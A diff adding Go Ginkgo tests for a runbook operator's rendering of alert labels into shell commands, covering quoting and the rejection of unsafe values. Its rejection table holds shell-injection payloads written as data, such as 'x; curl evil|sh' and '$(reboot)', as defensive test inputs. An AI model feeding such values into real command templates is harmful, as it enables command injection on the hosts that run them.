@@ -0,0 +1,96 @@
+package commands_test
+
+import (
+	"os/exec"
+
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+
+	"github.com/guibes/runbook-operator/pkg/commands"
+)
+
+var _ = Describe("Render", func() {
+	labels := map[string]string{"namespace": "payments", "pod": "api-7d9f8", "summary": "High error rate"}
+
+	DescribeTable("should substitute the label placeholders",
+		func(command, expected string) {
+			Expect(commands.Render(command, labels)).To(Equal(expected))
+		},
+		Entry("without placeholders", "kubectl get pods", "kubectl get pods"),
+		Entry("plain values", "kubectl -n {{ .Labels.namespace }} delete pod {{ .Labels.pod }}", "kubectl -n payments delete pod api-7d9f8"),
+		Entry("values with spaces", "echo {{ .Labels.summary }}", "echo 'High error rate'"),
+		Entry("explicit quote is not applied twice", "echo {{ .Labels.summary | quote }} {{ quote .Labels.pod }}", "echo 'High error rate' api-7d9f8"),
+		Entry("conditions", `{{ if eq .Labels.namespace "payments" }}kubectl get pods{{ end }}`, "kubectl get pods"),
+		Entry("dot inside with", "echo {{ with .Labels.summary }}{{ . }}{{ end }}", "echo 'High error rate'"),
+		Entry("literal braces", `echo {{ "{{" }}`, "echo {{"),
+	)
+
+	It("should fail on missing labels and unsupported placeholders", func() {
+		_, err := commands.Render("kubectl delete pod {{ .Labels.missing }}", labels)
+		Expect(err).To(MatchError(ContainSubstring(`map has no entry for key "missing"`)))
+
+		_, err = commands.Render("echo {{ .Spec.AlertName }}", labels)
+		Expect(err).To(MatchError(ContainSubstring("only .Labels.<name> is supported")))
+	})
+
+	DescribeTable("should reject label values outside of the safe character set",
+		func(value string) {
+			_, err := commands.Render("kubectl delete pod {{ .Labels.pod | quote }}", map[string]string{"pod": value})
+			Expect(err).To(MatchError(ContainSubstring("label pod has a value that is not allowed in commands")))
+		},
+		Entry("command separators", "x; curl evil|sh"),
+		Entry("command substitution", "$(reboot)"),
+		Entry("backticks", "`reboot`"),
+		Entry("single quotes", "x' ; reboot '"),
+		Entry("newlines", "x\nreboot"),
+		Entry("options", "--all"),
+	)
+
+	It("should not let label values run commands in the shell", func() {
+		sh, err := exec.LookPath("sh")
+		if err != nil {
+			Skip("no shell available")
+		}
+
+		for _, value := range []string{"a b", "x && echo injected", "*", "a=b", ""} {
+			command, err := commands.Render("printf '%s|' {{ .Labels.value }}", map[string]string{"value": value})
+			if err != nil {
+				// Values that are not rendered cannot inject anything
+				continue
+			}
+			output, err := exec.Command(sh, "-c", command).Output()
+			Expect(err).NotTo(HaveOccurred(), command)
+			Expect(string(output)).To(Equal(value+"|"), command)
+		}
+	})
+})
+
+var _ = Describe("Quote", func() {
+	DescribeTable("should quote values for the shell",
+		func(value, expected string) {
+			Expect(commands.Quote(value)).To(Equal(expected))
+		},
+		Entry("plain words", "api-7d9f8", "api-7d9f8"),
+		Entry("addresses", "10.0.0.1:9090", "10.0.0.1:9090"),
+		Entry("empty values", "", "''"),
+		Entry("spaces", "a b", "'a b'"),
+		Entry("assignments", "PATH=/tmp", "'PATH=/tmp'"),
+		Entry("single quotes", "it's", `'it'\''s'`),
+		Entry("command substitution", "$(reboot)", "'$(reboot)'"),
+	)
+})
+
+var _ = Describe("Labels", func() {
+	It("should return the referenced labels in order", func() {
+		Expect(commands.Labels("kubectl -n {{ .Labels.namespace }} delete pod {{ .Labels.pod | quote }} {{ if .Labels.force }}--force{{ end }}")).
+			To(Equal([]string{"force", "namespace", "pod"}))
+		Expect(commands.Labels("kubectl get pods")).To(BeEmpty())
+	})
+
+	It("should reject placeholders that address anything but a label", func() {
+		for _, command := range []string{"{{ .Labels }}", "{{ $x := 1 }}{{ $x }}", "{{ range .Labels }}{{ end }}", "{{ .Spec.AlertName }}"} {
+			_, err := commands.Labels(command)
+			Expect(err).To(HaveOccurred(), command)
+		}
+	})
+})